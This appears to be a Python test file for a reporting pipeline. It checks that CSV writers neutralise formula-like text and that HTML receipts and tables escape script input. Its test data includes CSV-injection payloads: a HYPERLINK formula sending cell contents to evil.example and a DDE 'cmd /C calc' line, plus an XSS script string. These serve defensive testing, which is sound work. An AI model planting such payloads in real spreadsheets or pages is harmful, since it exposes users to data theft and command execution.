"""Formula-like text is neutralised in every CSV we write; text units typed is escaped in every HTML."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.domain import registry_builder
from pipelines.domain.safe_cells import FORMULA_STARTS, neutralise, neutralise_frame, safe_rows, write_csv
from pipelines.ingest.issues import issue
from pipelines.ingest.receipt import ReceiptHeader, render_receipt
from pipelines.report.charts import styled

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
SCRIPT = "<script>alert('x')</script>"


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_leading_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text
    frame = neutralise_frame(pl.DataFrame({"t": [text, "科员"], "n": [-5, 3]}))
    assert frame.get_column("t").to_list() == ["'" + text, "科员"]
    assert frame.get_column("n").to_list() == [-5, 3]  # numbers are not text


@given(st.text(max_size=30))
def test_nothing_written_starts_like_a_formula(text: str) -> None:
    out = neutralise(text)
    assert not out.startswith(FORMULA_STARTS)
    assert out == text or out == "'" + text
    assert neutralise_frame(pl.DataFrame({"t": [text]})).get_column("t")[0] == out


def test_write_csv_round_trip(tmp_path: Path) -> None:
    frame = pl.DataFrame({"任务名称": [*HOSTILE, "普通任务"], "分值": list(range(len(HOSTILE) + 1))})
    path = write_csv(frame, tmp_path / "out.csv")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["任务名称"] for r in rows] == ["'" + h for h in HOSTILE] + ["普通任务"]
    assert rows[0]["分值"] == "0"


def test_the_registry_csv_writer_neutralises(monkeypatch: pytest.MonkeyPatch) -> None:
    rows = [{"county_code": "371600", "county_name": "=HYPERLINK(1)"}]
    text = registry_builder._render(("county_code", "county_name"), rows).decode("utf-8")
    assert list(csv.reader(io.StringIO(text)))[1] == ["371600", "'=HYPERLINK(1)"]
    assert safe_rows(rows) == [{"county_code": "371600", "county_name": "'=HYPERLINK(1)"}]


def test_a_receipt_escapes_what_the_unit_typed() -> None:
    header = ReceiptHeader(
        quarter="2025Q3",
        unit_code="371600-S-001",
        unit_name=SCRIPT,
        file_name=f"{SCRIPT}.xlsx",
        submission_id="a" * 64,
        arrival_at=datetime(2025, 10, 5, tzinfo=UTC),
        accepted=False,
        is_current=False,
    )
    bad = issue("wrong_type", sheet="评议打分", row=3, header="成效", value=SCRIPT, detail="不是数字")
    formula = issue("wrong_type", sheet="评议打分", row=4, header="成效", value=HOSTILE[0], detail="不是数字")
    items = [
        {
            "severity": i.severity,
            "kind": i.kind,
            "sheet": i.sheet,
            "excel_row": i.excel_row,
            "column_header": i.header,
            "value": i.value,
            "message": i.message,
        }
        for i in (bad, formula)
    ]
    page = render_receipt(header, items)
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "=HYPERLINK(&quot;http://evil.example" in page  # shown as text, never a link
    assert "<a " not in page


def test_the_report_tables_escape_text() -> None:
    frame = pl.DataFrame({"单位": [SCRIPT], "典型说明": [HOSTILE[0]], "高": [1]})
    page = styled(frame).to_html()
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "<a " not in page
